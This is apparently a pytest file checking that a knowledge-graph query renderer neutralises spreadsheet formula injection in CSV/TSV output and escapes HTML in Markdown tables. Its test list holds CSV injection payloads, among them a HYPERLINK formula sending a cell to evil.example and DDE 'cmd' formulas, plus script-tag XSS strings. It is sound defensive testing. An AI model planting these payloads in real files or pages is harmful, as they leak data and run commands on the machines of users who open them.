"""Query output that a spreadsheet or a Markdown page opens cannot run what a value holds."""
from __future__ import annotations

import csv
import io

import pytest
from pyoxigraph import Literal, NamedNode

from kg.namespaces import XSD
from kg.results import Result, render

ATTACKS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1"]


def _result(*values: Literal | NamedNode) -> Result:
    return Result(["v"], [(value,) for value in values])


def _csv_cells(text: str) -> list[str]:
    return [row[0] for row in csv.reader(io.StringIO(text))][1:]


@pytest.mark.parametrize("fmt", ["csv", "tsv-values"])
def test_a_value_that_starts_a_formula_is_neutralised(fmt):
    text = render(_result(*(Literal(a) for a in ATTACKS)), fmt)
    cells = _csv_cells(text) if fmt == "csv" else text.splitlines()[1:]
    escaped = [a.replace("\t", "\\t").replace("\r", "\\r") for a in ATTACKS] if fmt == "tsv-values" else ATTACKS
    assert cells == ["'" + a for a in escaped]


@pytest.mark.parametrize("fmt", ["csv", "tsv-values"])
def test_numbers_stay_numbers(fmt):
    numbers = [Literal("-14", datatype=XSD.integer), Literal("-0.5", datatype=XSD.decimal),
               Literal("+3", datatype=XSD.integer), Literal("-1.5E3", datatype=XSD.double), Literal("-7")]
    text = render(_result(*numbers), fmt)
    cells = _csv_cells(text) if fmt == "csv" else text.splitlines()[1:]
    assert cells == ["-14", "-0.5", "+3", "-1.5E3", "-7"]


def test_a_number_typed_formula_is_neutralised_all_the_same():
    cell, = _csv_cells(render(_result(Literal("=1+1", datatype=XSD.integer)), "csv"))
    assert cell == "'=1+1"


def test_iris_and_ordinary_text_are_unchanged():
    values = [NamedNode("https://w3id.org/bbmb/id/org/zf"), Literal("ZF Friedrichshafen"), Literal("a=b"),
              Literal("a - b")]
    assert _csv_cells(render(_result(*values), "csv")) == [
        "https://w3id.org/bbmb/id/org/zf", "ZF Friedrichshafen", "a=b", "a - b"]


def test_markdown_escapes_html_and_pipes():
    text = render(_result(Literal("<img src=x onerror=alert(1)>"), Literal("</script><script>alert(1)</script>"),
                          Literal("a | b & c")), "markdown")
    assert "<" not in text and ">" not in text
    assert text.splitlines()[2:] == ["| &lt;img src=x onerror=alert(1)&gt; |",
                                     "| &lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt; |",
                                     "| a \\| b &amp; c |"]
